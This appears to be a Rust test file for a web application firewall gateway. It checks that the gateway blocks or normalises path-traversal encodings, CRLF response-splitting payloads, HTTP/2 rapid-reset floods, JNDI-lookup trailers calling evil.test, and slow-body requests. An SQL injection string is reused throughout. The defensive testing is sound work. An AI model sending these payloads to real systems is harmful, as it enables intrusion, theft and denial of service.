//! What callers do to the gateway itself: paths that are read in two ways, requests that are reset or never end, trailers,
//! and bytes that would end a header of the answer.

use std::time::{Duration, Instant};

use palisade_tests::gateway::{Gateway, preset, route, threat_policy, waf_config};
use palisade_tests::h2_frames::{Connection, End};
use palisade_tests::http::{self, Request, percent};
use palisade_tests::process::wait_for;
use serde_json::{Value, json};

/// A change to be in force.
const PATIENCE: Duration = Duration::from_secs(60);
const SQL: &str = "1' UNION SELECT password FROM users-- -";

fn gateway(listener: Value, waf: Value, plugin: Value) -> Gateway {
    let gateway = Gateway::start(|control, backend| {
        control.configure(&json!({"gateway": {"listener": listener}}));
        control.create("waf-configs", &waf_config("demo", waf));
        control.create("threat-policies", &threat_policy("demo", json!({})));
        let mut plugins = preset("demo", "demo");
        for (key, value) in plugin.as_object().unwrap() {
            plugins[0]["config"][key] = value.clone();
        }
        let mut route = route("demo", backend, plugins);
        route["backend"]["protocol"] = json!("http2");
        control.create("routes", &route);
    });
    let attack = attack("/");
    wait_for("the gateway refuses", PATIENCE, || (attack.send(gateway.address).ok()?.status == 403).then_some(()))
        .unwrap_or_else(|why| panic!("{why}\n{}", gateway.envoy.log_tail(40)));
    gateway
}

fn attack(path: &str) -> Request {
    Request::get(format!("{path}?q={}", percent(SQL)))
}

/// The path that the backend got.
fn path_at_backend(gateway: &Gateway, path: &str) -> (u16, String) {
    let answer = gateway.send(&Request::post(path, "application/x-www-form-urlencoded", "x"));
    let path = if answer.status == 200 {
        answer.json()["path"].as_str().unwrap_or_default().to_owned()
    } else {
        String::new()
    };
    (answer.status, path)
}

#[test]
fn a_path_that_is_read_in_two_ways_escapes_no_inspection() {
    let mut gateway = gateway(json!({}), json!({}), json!({"exclude": ["^/public/"]}));
    assert_eq!(gateway.status(&attack("/public/a%20b")), 200, "what is excluded passes");
    assert_eq!(gateway.status(&attack("/admin")), 403);
    // The gateway itself answers for what it cannot make one path of.
    for path in ["/public/..%2fadmin", "/public/..%5cadmin", "/public/%2e%2e%2Fadmin", "/a%2Fb", "/public/a%00"] {
        assert_eq!(gateway.status(&Request::get(path)), 400, "{path}");
    }
    // The others are inspected: as the path that they are, or because backends read them differently.
    let inspected = [
        "/public/../admin",
        "/public/%2e%2e/admin",
        "/public/..\\admin",
        "/public/..%252fadmin",
        "/public/%252e%252e/admin",
        "/public/..;/admin",
        "/public/..%c0%afadmin",
        "//public/../admin",
        "/public/%25%32%65/admin",
    ];
    for path in inspected {
        assert_eq!(gateway.status(&attack(path)), 403, "{path}");
    }
    for (sent, seen) in [("/public//x/./y/%2e%2e/z", "/public/x/z"), ("//a\\b", "/a/b")] {
        assert_eq!(path_at_backend(&gateway, sent), (200, seen.to_owned()));
    }
    // A header that a backend would take for another one.
    assert_eq!(gateway.status(&Request::get("/").header("x_forwarded_user", "root")), 400);

    gateway
        .control
        .configure(&json!({"gateway": {"listener": {"escaped_slashes": "keep", "underscore_headers": "drop"}}}));
    gateway.until(&Request::get("/a%2Fb"), 200, PATIENCE);
    assert_eq!(path_at_backend(&gateway, "/group%2Fproject"), (200, "/group%2Fproject".to_owned()));
    assert_eq!(gateway.status(&attack("/public/a")), 200);
    for path in ["/public/..%2fadmin", "/public/..%5Cadmin", "/public/a%2Fb"] {
        assert_eq!(gateway.status(&attack(path)), 403, "{path}");
    }
    let seen = gateway
        .send(&Request::post("/echo", "application/x-www-form-urlencoded", "x").header("x_forwarded_user", "root"))
        .json();
    assert!(!seen["headers"].to_string().contains("forwarded_user"), "{seen}");

    gateway.control.configure(&json!({"gateway": {"listener": {"escaped_slashes": "unescape"}}}));
    wait_for("slashes are unescaped", PATIENCE, || {
        (path_at_backend(&gateway, "/x/..%2Fadmin") == (200, "/admin".to_owned())).then_some(())
    })
    .unwrap();
    assert_eq!(gateway.status(&attack("/public/..%2fadmin")), 403);
}

#[test]
fn a_redirect_does_not_split_the_response() {
    let rule = r#"SecRule REQUEST_URI "@beginsWith /go" "id:10001,phase:1,status:302,redirect:'https://shop.test%{REQUEST_URI}'""#;
    let mut gateway = gateway(json!({}), json!({"rules": [rule, "@import_preset crs"]}), json!({}));
    // The redirect is the rule's own answer, which a policy in force may answer in its own way.
    gateway.control.patch("threat-policies", "demo", &json!({"dry_run": true}));
    gateway.until(&Request::get("/go"), 302, PATIENCE);
    let smuggled = "set-cookie:%20session=evil%0d%0a%0d%0a%3cscript%3e";
    for path in [format!("/go%0d%0a{smuggled}"), format!("/go/x%0a{smuggled}"), format!("/go?a=b%0D%0A{smuggled}")] {
        let answer = gateway.send(&Request::get(&path));
        assert_eq!(answer.status, 302, "{path}");
        assert_eq!(answer.header("set-cookie"), None, "{path}");
        let location = answer.header("location").unwrap();
        assert!(
            location.starts_with("https://shop.test/go") && location.bytes().all(|byte| byte.is_ascii_graphic()),
            "{location}"
        );
        assert!(!answer.text().contains("<script>"), "{}", answer.text());
    }
}

#[test]
fn streams_that_are_reset_at_once_cost_nothing_and_end_their_connection() {
    let gateway = gateway(json!({}), json!({}), json!({}));
    let evaluated = || counter(&gateway, "wasmcustom.palisade.requests");
    let before = evaluated();
    let start = Instant::now();
    let clean = std::thread::scope(|scope| {
        let attackers: Vec<_> = (0..4)
            .map(|_| {
                scope.spawn(|| {
                    let mut connection = Connection::open(gateway.address).unwrap();
                    let target = |index| format!("/search?n={index}&q={}", percent(&SQL.repeat(20)));
                    let sent = connection.reset_streams(2000, target);
                    (sent.is_err(), connection.end())
                })
            })
            .collect();
        let clean: Vec<u16> = (0..50).map(|index| gateway.status(&Request::get(format!("/?clean={index}")))).collect();
        for attacker in attackers {
            assert_eq!(attacker.join().unwrap().1, End::Closed, "a connection of resets was kept");
        }
        clean
    });
    println!("4 x 2000 reset requests beside 50 clean ones: {:?}", start.elapsed());
    assert!(clean.iter().all(|status| *status == 200), "{clean:?}");
    // Half of the first 500 resets end a connection, and nearly nothing of them has come to a filter.
    assert_eq!(counter(&gateway, "downstream_rq_too_many_premature_resets"), 4);
    let evaluated = evaluated() - before - 50;
    println!("{evaluated} of the 8000 came to the filters");
    assert!(evaluated < 1000, "{evaluated} requests of callers who had left were evaluated");
    assert!(gateway.envoy.vm_failures().is_empty());
}

/// The sum of Envoy's counters whose names end so, of one kind.
fn counter(gateway: &Gateway, name: &str) -> u64 {
    let stats = gateway.envoy.admin_get("/stats").unwrap().text();
    let values = stats.lines().filter_map(|line| line.split_once(": ")).filter(|(key, _)| key.ends_with(name));
    values.filter(|(key, _)| !key.starts_with("listener.")).filter_map(|(_, value)| value.parse::<u64>().ok()).sum()
}

#[test]
fn trailers_are_dropped_or_inspected() {
    let mut gateway = gateway(json!({}), json!({}), json!({}));
    let post = |gateway: &Gateway, body: &[u8], trailers: &[(&str, &str)]| {
        let mut connection = Connection::open(gateway.address).unwrap();
        let (status, body) = connection.post_with_trailers("/echo", body, trailers).unwrap();
        (status, serde_json::from_slice::<Value>(&body).unwrap_or_default())
    };
    let (fine, evil) = ([("x-checksum", "abc")], [("x-checksum", "${jndi:ldap://evil.test/a}")]);
    for trailers in [&fine, &evil] {
        for body in [b"hello".as_slice(), b"", &[b'a'; 100_000]] {
            if body.len() > 16_384 {
                continue;
            }
            let (status, seen) = post(&gateway, body, trailers);
            assert_eq!(
                (status, &seen["trailers"], &seen["body_length"]),
                (200, &json!([]), &json!(body.len())),
                "{seen}"
            );
        }
    }

    gateway.control.configure(&json!({"gateway": {"listener": {"request_trailers": "inspect"}}}));
    wait_for("trailers go on", PATIENCE, || {
        (post(&gateway, b"hello", &fine).1["trailers"] == json!([["x-checksum", "abc"]])).then_some(())
    })
    .unwrap_or_else(|why| panic!("{why}\n{}", gateway.envoy.log_tail(20)));
    let reached = gateway.backend.requests();
    let (status, _) = post(&gateway, b"hello", &evil);
    assert_eq!(status, 403);
    let event = gateway
        .control
        .event("the trailer", |event| event["event"]["outcome"] == "blocked" && event.to_string().contains("/echo"));
    println!("{event}");
    assert!(gateway.backend.requests() <= reached + 1);

    // Over HTTP/1.1 as well.
    let chunked = |value: &str| {
        let mut connection = http::Connection::open(gateway.address).unwrap();
        let head = "POST /echo HTTP/1.1\r\nhost: gateway.test\r\nuser-agent: Mozilla/5.0\r\naccept: */*\r\ncontent-type: application/x-www-form-urlencoded\r\n";
        let body =
            format!("transfer-encoding: chunked\r\ntrailer: x-late\r\n\r\n5\r\nhello\r\n0\r\nx-late: {value}\r\n\r\n");
        connection.write(format!("{head}{body}").as_bytes()).unwrap();
        let answer = connection.read(false).unwrap();
        (answer.status, if answer.status == 200 { answer.json()["trailers"].clone() } else { Value::Null })
    };
    assert_eq!(chunked("fine"), (200, json!([["x-late", "fine"]])));
    assert_eq!(chunked("${jndi:ldap://evil.test/a}").0, 403);

    // Where no step looks at them, nothing goes on.
    gateway.control.patch("routes", "demo", &json!({"plugins": []}));
    gateway.until(&attack("/"), 200, PATIENCE);
    assert_eq!(post(&gateway, b"hello", &fine).1["trailers"], json!([]));
}

#[test]
fn a_body_that_does_not_end_is_ended() {
    let listener = json!({"request_timeout_seconds": 2, "request_headers_timeout_seconds": 1});
    let gateway = gateway(listener, json!({}), json!({}));
    let start = Instant::now();
    let mut connection = http::Connection::open(gateway.address).unwrap();
    connection
        .write(
            b"POST /echo HTTP/1.1\r\nhost: gateway.test\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: 100000\r\n\r\n",
        )
        .unwrap();
    // A byte at a time, so that the connection is never idle, until the gateway ends the request; at most a minute.
    let mut sent = 0;
    while sent < 600 && connection.write(b"a").is_ok() && counter(&gateway, "http.palisade.downstream_rq_timeout") == 0
    {
        std::thread::sleep(Duration::from_millis(100));
        sent += 1;
    }
    println!("ended after {sent} bytes, {:?}", start.elapsed());
    assert_eq!(counter(&gateway, "http.palisade.downstream_rq_timeout"), 1);
    assert_eq!(connection.read(false).unwrap().status, 408);
    // Headers that do not end.
    let mut connection = http::Connection::open(gateway.address).unwrap();
    connection.write(b"GET / HTTP/1.1\r\nhost: gateway.test\r\nx-slow: ").unwrap();
    assert_eq!(connection.read(false).unwrap().status, 408);
    assert_eq!(gateway.status(&Request::get("/")), 200);
}
